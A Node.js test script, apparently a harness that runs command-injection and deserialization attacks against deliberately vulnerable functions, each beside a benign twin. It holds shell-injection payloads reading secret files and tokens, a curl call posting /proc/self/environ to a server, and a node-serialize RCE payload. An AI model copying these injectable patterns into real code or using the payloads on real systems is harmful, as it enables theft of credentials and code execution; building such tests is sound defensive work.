// SPDX-License-Identifier: Apache-2.0
// A function that shells out with a value of the request in the command, and the values that attackers send.
// Called as `inject.js WAY` or `inject.js WAY twin`, see attack.h.
'use strict';
const { execSync, execFileSync } = require('node:child_process');
const process = require('node:process');

const options = { encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'], input: '' };

const show = (name) => execSync(`cat ../bin/${name}`, options);

// What a vulnerable public sample does with a link to a document.
const convert = (url) => execSync(`curl --silent -L ${url} | ${process.env.LOADER} ../bin/catdoc -`, options);

// node-serialize: a string with a marker is evaluated as a function; one with () behind it is called at once.
const deserialize = (text) => {
	const object = JSON.parse(text);
	for (const key of Object.keys(object)) {
		if (typeof object[key] === 'string' && object[key].startsWith('_$$ND_FUNC$$_'))
			object[key] = eval('(' + object[key].slice(13) + ')');
	}
	return Object.values(object).map(String).join('\n');
};

const file = (program, args, input) => execFileSync(program, args, { ...options, input: input ?? '' });

// What an attacker wants to read: the function's own code, in the task root.
const stage = () => require('node:fs').writeFileSync('task/handler.js', '// DONE');

const document = process.env.SERVER + '/document';
const normalName = () => show('data.txt') + show("'other data.txt'");
const normalConvert = () => convert(document);
const normalObject = () => deserialize('{"user":"somebody","country":"idk"}');
const normalPython = () => file('python3', ['../bin/tool.py', 'report']);
const normalNode = () => file(process.execPath, ['../bin/tool.js', 'report']);
const normalPerl = () => file('perl', ['../bin/tool.pl', 'report']);

const ways = {
	'semicolon': [() => show('data.txt; cat ../bin/secret #'), normalName],
	'env': [() => show('data.txt; env #'), normalName],
	'sleep': [() => show('data.txt; sleep 0.1; printf "DO%s\\n" NE #'), normalName],
	'substitution': [() => show('data.txt $(cat ../bin/secret >&2)').concat('DONE'), normalName],
	'backquotes': [() => show('data.txt `cat ../bin/secret >&2`').concat('DONE'), normalName],
	'newline': [() => show('data.txt\ncat ../bin/secret'), normalName],
	'pipe': [() => show('data.txt | cat - ../bin/secret'), normalName],
	'and': [() => show('data.txt && cat ../bin/secret'), normalName],
	'separator': [() => show('data.txt;cat${IFS}../bin/secret'), normalName],
	'second-file': [() => show('data.txt ../bin/secret'), normalName],
	'redirect': [() => { show('data.txt > stolen'); return 'DONE'; }, normalName],

	'handler-source': [() => { stage(); return show('data.txt; cat task/* #'); }, normalName],
	'handler-source-listed': [() => { stage(); return file('cat', ['task/handler.js']); }, () => file('cat', ['../bin/data.txt'])],

	'echo-built-in': [() => show('data.txt; echo $TOKEN #'), normalName],
	'read-built-in': [() => show('data.txt; while read -r l; do echo "$l"; done < ../bin/secret #'), normalName],

	'pipeline-environment': [() => convert(`--data-binary @/proc/self/environ ${process.env.SERVER}/echo`), normalConvert],
	'pipeline-semicolon': [() => convert(`${document}; echo $TOKEN #`), normalConvert],
	'pipeline-output': [() => { convert(`-o stolen ${document}`); return 'DONE'; }, normalConvert],

	'python-c': [() => file('python3', ['-c', 'print("DO" + "NE")']), normalPython],
	'python-stdin': [() => file('python3', [], 'print("DO" + "NE")'), normalPython],
	'python-own-file': [() => { require('node:fs').writeFileSync('x.py', 'print("DO" + "NE")'); return file('python3', ['x.py']); }, normalPython],
	'python-module': [() => { require('node:fs').writeFileSync('x.py', 'print("DO" + "NE")'); return file('python3', ['-m', 'x']); }, normalPython],
	'node-e': [() => file(process.execPath, ['-e', 'console.log("DO" + "NE")']), normalNode],
	'node-require': [() => { require('node:fs').writeFileSync('x.js', 'console.log("DO" + "NE")'); return file(process.execPath, ['--require', './x.js', '../bin/tool.js', 'report']); }, normalNode],
	'perl-e': [() => file('perl', ['-e', 'print "DO", "NE\n"']), normalPerl],

	'deserialize': [() => deserialize('{"x":"_$$ND_FUNC$$_function(){ return require(\'node:child_process\').execSync(\'cat <../bin/secret\') }()"}'), normalObject],
	'deserialize-no-child': [() => deserialize('{"x":"_$$ND_FUNC$$_function(){ return process.env.TOKEN }()"}'), normalObject],
};

const [attack, twin] = ways[process.argv[2]];
const isTwin = process.argv[3] === 'twin';
let output;
try {
	output = (isTwin ? twin : attack)();
} catch (error) {
	console.error(`stopped: ${error.code ?? error.status ?? ''} ${error.message}`);
	process.exit(1);
}
process.stdout.write(output);
process.exitCode = isTwin || output.includes('DONE') ? 0 : 1;
